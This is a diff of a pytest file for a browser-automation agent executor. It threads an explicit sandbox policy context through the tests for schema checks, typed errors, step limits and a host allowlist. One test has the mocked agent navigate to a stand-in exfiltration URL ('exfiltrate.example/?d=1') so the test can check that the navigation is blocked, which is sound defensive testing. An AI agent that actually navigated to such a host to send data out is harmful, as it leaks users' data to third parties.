@@ -16,10 +16,10 @@ from tools import (
     BrowserPool,
     NovaActExecutor,
     SandboxPolicy,
+    StepContext,
     StepRefused,
     ToolError,
     default_registry,
-    use_policy,
 )
 
 pytestmark = pytest.mark.browser
@@ -30,11 +30,14 @@ NOTES_SCHEMA = {"type": "object", "properties": {"notes": {"type": "integer"}},
 @pytest.fixture
 async def nova(site, nova_act_service):
     pool = BrowserPool()
-    policy = SandboxPolicy(allowed_hosts=(urlsplit(site).netloc,), browser_max_steps=5,
-                           browser_timeout_seconds=60)
-    with use_policy(policy):
-        yield NovaActExecutor(pool)
+    yield NovaActExecutor(pool)
     await pool.aclose()
+
+
+@pytest.fixture
+def step(site) -> StepContext:
+    return StepContext(policy=SandboxPolicy(allowed_hosts=(urlsplit(site).netloc,),
+                                            browser_max_steps=5, browser_timeout_seconds=60))
 
 
 def add_note_script(text: str, customer_url: str):
@@ -50,11 +53,11 @@ def add_note_script(text: str, customer_url: str):
     return script
 
 
-async def test_act_types_clicks_and_returns_schema_valid_data(nova, site, nova_act_service,
-                                                              tmp_path):
+async def test_act_types_clicks_and_returns_schema_valid_data(nova, step, site,
+                                                              nova_act_service, tmp_path):
     nova_act_service.scripts.append(add_note_script("typed by nova act", f"{site}/customers/2"))
     out = await nova.extract("Open Globex, add the note 'typed by nova act' and count it",
-                             f"{site}/customers", NOTES_SCHEMA)
+                             f"{site}/customers", NOTES_SCHEMA, step)
     assert out["data"] == {"notes": 1} and out["steps"] == 4
     rows = sqlite3.connect(tmp_path / "crm.sqlite").execute("SELECT customer_id, text FROM notes")
     assert rows.fetchall() == [(2, "typed by nova act")]
@@ -65,42 +68,43 @@ async def test_act_types_clicks_and_returns_schema_valid_data(nova, site, nova_a
     assert urls == [f"{site}/customers"] + [f"{site}/customers/2"] * 3
 
 
-async def test_result_that_does_not_match_the_schema_is_an_error(nova, site, nova_act_service):
+async def test_result_that_does_not_match_the_schema_is_an_error(nova, step, site,
+                                                                 nova_act_service):
     nova_act_service.scripts.append(lambda step, obs: [call("return", json.dumps({"n": 1}))])
     with pytest.raises(ToolError) as raised:
-        await nova.extract("count", f"{site}/customers/2", NOTES_SCHEMA)
+        await nova.extract("count", f"{site}/customers/2", NOTES_SCHEMA, step)
     assert raised.value.type_name == "ActInvalidModelGenerationError"
     assert not raised.value.retryable
 
 
-async def test_agent_failure_and_service_errors_are_typed(nova, site, nova_act_service):
+async def test_agent_failure_and_service_errors_are_typed(nova, step, site, nova_act_service):
     nova_act_service.scripts.append(lambda step, obs: [call("throw", "cannot find the form")])
     with pytest.raises(ToolError) as failed:
-        await nova.act("add a note", f"{site}/customers/2")
+        await nova.act("add a note", f"{site}/customers/2", step)
     assert failed.value.type_name == "ActAgentFailed" and not failed.value.retryable
 
     nova_act_service.scripts.append(
         lambda step, obs: failure(500, "InternalServerException", "model fell over"))
     with pytest.raises(ToolError) as broken:
-        await nova.act("add a note", f"{site}/customers/2")
+        await nova.act("add a note", f"{site}/customers/2", step)
     assert broken.value.retryable, broken.value.type_name
 
 
-async def test_act_that_never_returns_exceeds_its_steps(nova, site, nova_act_service):
+async def test_act_that_never_returns_exceeds_its_steps(nova, step, site, nova_act_service):
     nova_act_service.scripts.append(lambda step, obs: observe_then(call("think", "hmm")))
     with pytest.raises(ToolError) as raised:
-        await nova.act("wander", f"{site}/customers")
+        await nova.act("wander", f"{site}/customers", step)
     assert raised.value.type_name == "ActExceededMaxStepsError"
     assert sum(op == "InvokeActStep" for op, _ in nova_act_service.requests) == 5
 
 
-async def test_navigation_outside_the_allowlist_is_blocked(nova, site, nova_act_service):
+async def test_navigation_outside_the_allowlist_is_blocked(nova, step, site, nova_act_service):
     nova_act_service.scripts.append(
         lambda step, obs: observe_then(call("goToUrl", "http://exfiltrate.example/?d=1")))
     with pytest.raises(BlockedError):
-        await nova.act("follow the link", f"{site}/customers")
+        await nova.act("follow the link", f"{site}/customers", step)
     with pytest.raises(BlockedError):
-        await nova.act("start elsewhere", "http://exfiltrate.example/")
+        await nova.act("start elsewhere", "http://exfiltrate.example/", step)
 
 
 async def test_two_browser_steps_run_in_parallel_sessions(site, nova_act_service, isolated_env):
